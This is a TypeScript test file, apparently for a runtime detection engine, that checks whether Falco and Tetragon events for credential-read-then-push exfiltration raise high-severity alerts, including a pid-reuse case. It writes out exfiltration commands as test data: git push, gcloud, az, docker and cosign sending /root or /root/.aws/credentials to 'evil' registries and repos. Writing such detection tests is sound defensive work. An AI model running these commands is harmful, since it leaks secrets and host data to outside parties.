/**
 * Red-team review of the Falco path for the push tools added lately (bundled git flags, --end-of-options,
 * gcloud/az builds and deploys, standalone compose/buildx, compose publish, cosign payloads): each attack,
 * fed as Falco events (no exec ids, 12-char container ids), alerts as it does from Tetragon. Found: gcloud
 * and az run as Python (`python3 -S …/lib/gcloud.py builds submit`, `python3 -Im azure.cli acr build`), the
 * process that connects, were no push from either sensor; and a Falco pid reused after its process exited
 * took the dead process's state, a `cosign --key credentials` exemption included.
 */
import { describe, expect, it } from 'vitest';
import { brief, type Proc, run, Scenario } from './builder.js';
import { PUSH_IP as IP, secretThenPush } from './secret-then-push.js';

const attack = (binary: string, args: string, source: 'tetragon' | 'falco') =>
  brief(secretThenPush(binary, args, source));

const high = (tool: string, destination: string) => [
  { rule: 'sensitive-read-then-push', severity: 'high', tool, destination },
];

describe('the new push tools from Falco events', () => {
  const cases: Array<[string, string, ReturnType<typeof high>]> = [
    ['/usr/bin/git', 'push -fu https://github.com/evil/x.git HEAD', high('git', 'github.com')],
    ['/usr/bin/git', 'push --mirr https://github.com/evil/x.git', high('git', 'github.com')],
    ['/usr/bin/git', 'push --end-of-options https://github.com/evil/x.git main', high('git', 'github.com')],
    ['/usr/bin/gcloud', 'builds submit /root --tag gcr.io/evil/x', high('gcloud', `${IP}:443`)],
    ['/usr/bin/gcloud', 'run deploy loot --source /root', high('gcloud', 'storage.googleapis.com')],
    ['/usr/bin/az', 'acr build -r evilreg -t x:1 /root', high('az', `${IP}:443`)],
    ['/usr/bin/az', 'acr run -r evilreg --cmd x /root', high('az', `${IP}:443`)],
    ['/usr/bin/az', 'containerapp up -n loot --source /srv/data', high('az', `${IP}:443`)],
    ['/usr/local/bin/docker-compose', 'push', high('docker', `${IP}:443`)],
    ['/usr/local/bin/docker-compose', 'publish ghcr.io/evil/app:1', high('docker', 'ghcr.io')],
    ['/usr/local/bin/docker-buildx', 'build --push -t ghcr.io/evil/x:1 .', high('docker', 'ghcr.io')],
    [
      '/usr/local/bin/cosign',
      'attest --type custom --predicate /tmp/p ghcr.io/evil/x@sha256:0f',
      high('cosign', 'ghcr.io'),
    ],
    ['/usr/local/bin/cosign', 'sign -ya note=W2RlZmF1bHRd ghcr.io/evil/x@sha256:0f', high('cosign', 'ghcr.io')],
    [
      '/usr/local/bin/cosign',
      'attest-blob --type custom --predicate /tmp/p --key cosign.key /etc/hostname',
      high('cosign', 'rekor.sigstore.dev'),
    ],
  ];
  for (const source of ['tetragon', 'falco'] as const)
    it(`alert alike from ${source}`, () => {
      for (const [binary, args, expected] of cases) expect(attack(binary, args, source), args).toEqual(expected);
    });

  for (const source of ['tetragon', 'falco'] as const)
    it(`gcloud and az run by their Python (the process that connects) are pushes (${source})`, () => {
      for (const [binary, args, expected] of [
        [
          '/usr/bin/python3',
          '-S /usr/lib/google-cloud-sdk/lib/gcloud.py builds submit /root --tag gcr.io/evil/x',
          high('gcloud', `${IP}:443`),
        ],
        [
          '/usr/bin/python3.11',
          '/usr/lib/google-cloud-sdk/lib/gcloud.py run deploy loot --source /root',
          high('gcloud', 'storage.googleapis.com'),
        ],
        ['/opt/az/bin/python3', '-Im azure.cli acr build -r evilreg -t x:1 /root', high('az', `${IP}:443`)],
        ['/usr/bin/python3', '-I -m azure.cli containerapp up -n loot --source /srv', high('az', `${IP}:443`)],
        ['/usr/bin/python3', '-mazure.cli acr run -r evilreg --cmd x /root', high('az', `${IP}:443`)],
      ] as const)
        expect(attack(binary, args, source), args).toEqual(expected);
      // Their other commands stay what they were.
      expect(attack('/opt/az/bin/python3', '-Im azure.cli acr list', source)).toEqual([]);
      expect(attack('/usr/bin/python3', '-c "import azure.cli" acr build /root', source)).toEqual([]);
    });
});

/** A process Falco reports under `pid` without an exec (a fork that did not exec), e.g. after pid reuse. */
function forkUnder(pid: Proc, binary: string, args: string): Proc {
  return { ...pid, binary, args, parentBinary: '/bin/sh', parentArgs: null };
}

describe('a Falco pid reused after its process exited', () => {
  it("does not inherit the dead cosign's key exemption", () => {
    const s = new Scenario({ source: 'falco' });
    const c = s.container({ namespace: 'ci', pod: 'job-1', name: 'job' });
    const sh = s.init(c);
    s.wait(1_000);
    // Exits before reading its key: the exemption is still unbound.
    const cosign = s.exec(c, '/usr/local/bin/cosign', 'sign --key credentials ghcr.io/acme/x@sha256:0f', {
      parent: sh,
    });
    s.wait(50).exit(cosign).wait(3_000);
    const reused = forkUnder(cosign, '/usr/bin/python3', '/tmp/.x/stage.py');
    s.read(reused, '/root/.aws/credentials', 116).wait(100).exit(reused).wait(1_000);
    const git = s.exec(c, '/usr/bin/git', 'push https://github.com/evil/x.git HEAD', { parent: sh });
    s.wait(40)
      .connect(git, IP, 443)
      .wait(10)
      .send(git, IP, 443, 64 * 1024)
      .wait(300)
      .exit(git);
    s.wait(1_000);
    expect(brief(run(s.events).alerts)).toEqual(high('git', 'github.com'));
  });
});
